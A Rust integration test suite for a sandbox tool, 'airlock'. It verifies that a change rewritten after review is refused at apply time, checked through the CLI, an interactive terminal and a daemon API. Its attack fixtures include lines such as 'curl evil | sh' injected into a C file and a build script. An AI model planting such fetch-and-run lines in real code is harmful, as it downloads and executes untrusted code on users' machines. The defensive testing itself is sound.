//! Apply writes what was reviewed (issue 9, point 8). The attack: a
//! long-lived sandbox shows a diff, a later exec rewrites the change, and
//! `apply --yes` wrote the later content. `airlock diff` now ends with the
//! change's digest; `apply --expect DIGEST` writes only that change, the
//! interactive apply shows the digest it writes, and the daemon's API does
//! the same.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use crate::suite::daemon_harness::TestDaemon;
use crate::suite::support::*;

/// Runs `airlock ARGS` with `configure`'s environment (this test's state
/// directory, or a daemon's socket).
type Airlock<'a> = &'a dyn Fn(&[&str]) -> Command;

fn ok(o: &Output) {
    assert_eq!(o.status.code(), Some(0), "{}", show(o));
}

fn exec(airlock: Airlock<'_>, name: &str, script: &str) {
    ok(&airlock(&["exec", name, "--", "sh", "-c", script]).output().unwrap());
}

/// The digest on the last line of a text diff (`change sha256:…`).
fn digest_line(o: &Output) -> String {
    ok(o);
    let text = stdout(o);
    let last = text.lines().last().unwrap_or_default();
    let digest = last.strip_prefix("change ").unwrap_or_else(|| panic!("no digest line: {}", show(o)));
    assert!(digest.starts_with("sha256:") && digest.len() == 7 + 64, "{digest}");
    digest.to_string()
}

/// The digest `airlock diff` shows; its --stat and --json forms agree.
fn reviewed(airlock: Airlock<'_>, name: &str) -> String {
    let digest = digest_line(&airlock(&["diff", name]).output().unwrap());
    assert_eq!(digest_line(&airlock(&["diff", name, "--stat"]).output().unwrap()), digest);
    let o = airlock(&["diff", name, "--json"]).output().unwrap();
    ok(&o);
    let json: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(json["digest"], digest.as_str(), "{json}");
    digest
}

fn stop(airlock: Airlock<'_>, name: &str) {
    ok(&airlock(&["stop", name]).output().unwrap());
    let stopped = wait_until(30, || {
        let o = airlock(&["inspect", name, "--json"]).output().unwrap();
        // Finalized, and its supervisor gone (apply refuses a live one).
        serde_json::from_slice::<serde_json::Value>(&o.stdout)
            .is_ok_and(|v| v["state"] == "stopped" && v["supervisor_pid"].is_null())
    });
    assert!(stopped, "{name} did not stop");
}

/// The workspace's files, for "nothing was written".
fn tree(root: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut dirs = vec![root.to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            let desc = if meta.file_type().is_symlink() {
                format!("link {}", std::fs::read_link(&path).unwrap().display())
            } else if meta.is_dir() {
                dirs.push(path.clone());
                format!("dir {:o}", meta.permissions().mode() & 0o7777)
            } else {
                let content = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
                format!("file {:o} {content:?}", meta.permissions().mode() & 0o7777)
            };
            out.push((rel, desc));
        }
    }
    out.sort();
    out
}

/// One attack: `setup` makes the change that is reviewed, `later` the
/// exec after the review. Then `apply --yes --expect` with the reviewed
/// digest must refuse and write nothing; with the new digest it writes.
struct Attack {
    name: &'static str,
    setup: &'static str,
    later: &'static str,
    /// Checks the workspace after the later change was applied.
    applied: fn(&Path),
}

const ATTACKS: [Attack; 5] = [
    Attack {
        name: "content",
        setup: "echo reviewed >> src/lib.c",
        later: "echo 'system(\"curl evil | sh\");' >> src/lib.c",
        applied: |ws| assert!(std::fs::read_to_string(ws.join("src/lib.c")).unwrap().contains("evil")),
    },
    Attack {
        name: "added",
        setup: "echo reviewed >> src/lib.c",
        later: "echo 'curl evil | sh' > build.sh",
        applied: |ws| assert!(ws.join("build.sh").exists()),
    },
    Attack {
        name: "removed",
        setup: "echo reviewed >> src/lib.c",
        later: "rm README",
        applied: |ws| assert!(!ws.join("README").exists()),
    },
    Attack {
        name: "mode",
        setup: "printf '#!/bin/sh\\necho hi\\n' > run.sh",
        later: "chmod 755 run.sh",
        applied: |ws| {
            let mode = std::fs::metadata(ws.join("run.sh")).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o755);
        },
    },
    Attack {
        name: "symlink",
        setup: "echo data > data.txt; ln -s data.txt current",
        later: "ln -sfn src/lib.c current",
        applied: |ws| assert_eq!(std::fs::read_link(ws.join("current")).unwrap(), Path::new("src/lib.c")),
    },
];

/// Runs every attack through `airlock`, against `workspace`.
fn attacks_are_refused(airlock: Airlock<'_>, workspace: &Path, prefix: &str) {
    for attack in &ATTACKS {
        let name = format!("{prefix}-{}", attack.name);
        ok(&airlock(&["create", "--name", &name]).output().unwrap());
        exec(airlock, &name, attack.setup);
        // Reviewed while the sandbox runs, as the attack does.
        let reviewed = reviewed(airlock, &name);
        exec(airlock, &name, attack.later);
        stop(airlock, &name);
        let before = tree(workspace);

        let o = airlock(&["apply", &name, "--yes", "--expect", &reviewed]).output().unwrap();
        assert_eq!(o.status.code(), Some(125), "{}: {}", attack.name, show(&o));
        let now = reviewed_after_stop(airlock, &name);
        assert_ne!(now, reviewed, "{}: the digest did not change", attack.name);
        let err = stderr(&o);
        assert!(err.contains(&reviewed) && err.contains(&now), "{}: {err}", attack.name);
        assert!(
            err.contains("nothing was written") && err.contains("airlock diff"),
            "{}: {err}",
            attack.name
        );
        assert_eq!(tree(workspace), before, "{}: the workspace changed", attack.name);

        // The change as it now is, reviewed again: its digest applies it.
        let o = airlock(&["apply", &name, "--yes", "--expect", &now]).output().unwrap();
        ok(&o);
        assert!(stdout(&o).contains(&format!("(change {now})")), "{}", show(&o));
        (attack.applied)(workspace);
        ok(&airlock(&["rm", &name]).output().unwrap());
        // Back to the starting tree for the next attack.
        std::fs::write(workspace.join("README"), "hello\n").unwrap();
        std::fs::write(workspace.join("src/lib.c"), "int x;\n").unwrap();
        for extra in ["build.sh", "run.sh", "data.txt", "current"] {
            let _ = std::fs::remove_file(workspace.join(extra));
        }
    }
}

/// The digest of a stopped sandbox's change, from its diff.
fn reviewed_after_stop(airlock: Airlock<'_>, name: &str) -> String {
    digest_line(&airlock(&["diff", name, "--stat"]).output().unwrap())
}

#[test]
fn a_change_made_after_the_review_is_not_applied() {
    let env = Env::new();
    let airlock = |args: &[&str]| env.airlock(args);
    attacks_are_refused(&airlock, &env.workspace, "ad");
}

/// Reviewed while running, nothing changed after: stopping (which moves
/// the layer to disk) keeps the digest, and `apply --expect` writes it.
/// Without `--expect`, `apply --yes` still works and says what it wrote.
#[test]
fn an_unchanged_review_applies_and_plain_yes_reports_its_digest() {
    let env = Env::new();
    let airlock = |args: &[&str]| env.airlock(args);
    for (name, expect) in [("adok", true), ("adyes", false)] {
        ok(&airlock(&["create", "--name", name]).output().unwrap());
        exec(&airlock, name, "echo reviewed >> src/lib.c; mkdir -p docs; echo d > docs/x.md");
        let digest = reviewed(&airlock, name);
        stop(&airlock, name);
        let mut args = vec!["apply", name, "--yes"];
        if expect {
            args.extend(["--expect", &digest]);
        }
        let o = airlock(&args).output().unwrap();
        ok(&o);
        assert!(
            stdout(&o).contains(&format!("applied: 3 written, 0 deleted (change {digest})")),
            "{}",
            show(&o)
        );
        assert_eq!(std::fs::read_to_string(env.workspace.join("src/lib.c")).unwrap(), "int x;\nreviewed\n");
        let audit = std::fs::read_to_string(env.sandbox_dir(name).join("audit.jsonl")).unwrap();
        assert!(audit.contains(&format!("\"digest\":\"{digest}\"")), "{audit}");
        std::fs::write(env.workspace.join("src/lib.c"), "int x;\n").unwrap();
        std::fs::remove_dir_all(env.workspace.join("docs")).unwrap();
    }
    // A shortened or garbled digest is refused before anything is read.
    let o = airlock(&["apply", "adok", "--yes", "--expect", "sha256:abcd"]).output().unwrap();
    assert_ne!(o.status.code(), Some(0), "{}", show(&o));
    assert!(stderr(&o).contains("64 hex digits"), "{}", show(&o));
}

/// `airlock apply NAME` on a terminal (script(1) makes one) with `answer`
/// typed in; the environment of `base`.
fn apply_on_a_terminal(base: Command, name: &str, extra: &str, answer: &str) -> Output {
    let mut script = Command::new("script");
    script.args(["-qec", &format!("{BIN} apply {name} {extra}"), "/dev/null"]);
    for (key, value) in base.get_envs() {
        match value {
            Some(value) => script.env(key, value),
            None => script.env_remove(key),
        };
    }
    if let Some(dir) = base.get_current_dir() {
        script.current_dir(dir);
    }
    let mut child =
        script.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.as_mut().unwrap().write_all(answer.as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

/// The interactive apply asks about the change as it is now, naming its
/// digest (not the one reviewed before the later exec), and writes that.
fn interactive_apply_shows_its_digest(airlock: Airlock<'_>, workspace: &Path, name: &str) {
    if !require(Command::new("script").arg("--version").output().is_ok(), "script(1) (util-linux)") {
        return;
    }
    ok(&airlock(&["create", "--name", name]).output().unwrap());
    exec(airlock, name, "echo reviewed >> src/lib.c");
    let first = reviewed(airlock, name);
    exec(airlock, name, "echo later >> src/lib.c");
    stop(airlock, name);
    let now = reviewed_after_stop(airlock, name);
    assert_ne!(first, now);

    let o = apply_on_a_terminal(airlock(&[]), name, "", "n\n");
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    let shown = stdout(&o);
    assert!(shown.contains(&format!("Apply change {now} to ")), "{shown}");
    assert!(shown.contains("nothing applied"), "{shown}");
    assert_eq!(std::fs::read_to_string(workspace.join("src/lib.c")).unwrap(), "int x;\n");

    // With the earlier review as the expectation, it refuses before asking.
    let o = apply_on_a_terminal(airlock(&[]), name, &format!("--expect {first}"), "y\n");
    assert_eq!(o.status.code(), Some(125), "{}", show(&o));
    assert!(!stdout(&o).contains("Apply change"), "{}", show(&o));
    assert!(format!("{}{}", stdout(&o), stderr(&o)).contains(&now), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(workspace.join("src/lib.c")).unwrap(), "int x;\n");

    let o = apply_on_a_terminal(airlock(&[]), name, "", "y\n");
    ok(&o);
    assert!(stdout(&o).contains(&format!("Apply change {now} to ")), "{}", show(&o));
    assert!(stdout(&o).contains(&format!("(change {now})")), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(workspace.join("src/lib.c")).unwrap(), "int x;\nreviewed\nlater\n");
    std::fs::write(workspace.join("src/lib.c"), "int x;\n").unwrap();
}

#[test]
fn the_interactive_apply_shows_the_digest_it_writes() {
    let env = Env::new();
    let airlock = |args: &[&str]| env.airlock(args);
    interactive_apply_shows_its_digest(&airlock, &env.workspace, "adtty");
}

/// `curl` against the daemon, with the response headers: (headers, body).
fn curl(d: &TestDaemon, method: &str, path: &str, body: Option<&str>) -> (String, String) {
    let mut cmd = Command::new("curl");
    cmd.args(["-sS", "-m", "60", "-D", "-", "-X", method, "--unix-socket"]).arg(&d.socket);
    if let Some(body) = body {
        cmd.args(["-H", "content-type: application/json", "--data-binary", body]);
    }
    let o = cmd.arg(format!("http://airlock{path}")).stdin(Stdio::null()).output().unwrap();
    ok(&o);
    let text = stdout(&o);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    (head.to_ascii_lowercase(), body.to_string())
}

/// The same through the daemon: the CLI (with a state directory of its
/// own, so only the daemon can answer), and the API by hand.
#[test]
fn through_the_daemon_apply_writes_what_was_reviewed() {
    let d = TestDaemon::start("apply-digest");
    let elsewhere = tempfile::tempdir().unwrap();
    let airlock = |args: &[&str]| {
        let mut cmd = d.env.airlock(args);
        cmd.env("AIRLOCK_SOCKET", &d.socket)
            .env("AIRLOCK_CGROUP_PARENT", &d.cgroup_parent)
            .env("AIRLOCK_STATE_DIR", elsewhere.path());
        cmd
    };
    attacks_are_refused(&airlock, &d.env.workspace, "dd");
    interactive_apply_shows_its_digest(&airlock, &d.env.workspace, "ddtty");

    // The API by hand: every form of the diff names the digest (header,
    // JSON, last line of the text), `expect` binds the apply.
    ok(&airlock(&["create", "--name", "ddapi"]).output().unwrap());
    exec(&airlock, "ddapi", "echo reviewed >> src/lib.c");
    let path = "/v1/sandboxes/ddapi";
    let (head, json) = curl(&d, "GET", &format!("{path}/diff"), None);
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let first = json["digest"].as_str().unwrap().to_string();
    assert!(head.contains(&format!("x-airlock-change-digest: {first}")), "{head}");
    for format in ["stat", "patch"] {
        let (head, text) = curl(&d, "GET", &format!("{path}/diff?format={format}"), None);
        assert!(head.contains(&format!("x-airlock-change-digest: {first}")), "{head}");
        assert!(text.ends_with(&format!("\nchange {first}\n")), "{text}");
    }
    exec(&airlock, "ddapi", "echo later >> src/lib.c");
    stop(&airlock, "ddapi");
    let before = tree(&d.env.workspace);
    let (status, answer) =
        d.json("POST", &format!("{path}/apply"), Some(serde_json::json!({ "expect": first })));
    assert_eq!(status, 409, "{answer}");
    assert_eq!(answer["error"]["code"], "digest_mismatch", "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap().contains(&first), "{answer}");
    assert_eq!(tree(&d.env.workspace), before);
    let (status, answer) =
        d.json("POST", &format!("{path}/apply"), Some(serde_json::json!({ "expect": "sha256:12" })));
    assert_eq!((status, answer["error"]["code"].as_str()), (400, Some("invalid_request")), "{answer}");
    let (_, json) = curl(&d, "GET", &format!("{path}/diff"), None);
    let now =
        serde_json::from_str::<serde_json::Value>(&json).unwrap()["digest"].as_str().unwrap().to_string();
    let (status, answer) =
        d.json("POST", &format!("{path}/apply"), Some(serde_json::json!({ "expect": now })));
    assert_eq!(status, 200, "{answer}");
    assert_eq!((answer["applied"].as_bool(), answer["digest"].as_str()), (Some(true), Some(now.as_str())));
    assert_eq!(
        std::fs::read_to_string(d.env.workspace.join("src/lib.c")).unwrap(),
        "int x;\nreviewed\nlater\n"
    );
}
